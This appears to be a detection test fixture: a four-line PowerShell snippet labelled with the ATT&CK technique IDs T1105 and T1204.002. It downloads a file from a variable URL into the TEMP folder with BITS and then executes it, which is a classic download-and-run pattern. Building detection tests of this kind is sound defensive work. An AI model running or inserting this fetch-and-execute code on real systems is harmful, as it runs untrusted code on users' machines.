# expect: T1105 T1204.002
$out = "$env:TEMP\t.exe"
Start-BitsTransfer $url $out
& $out
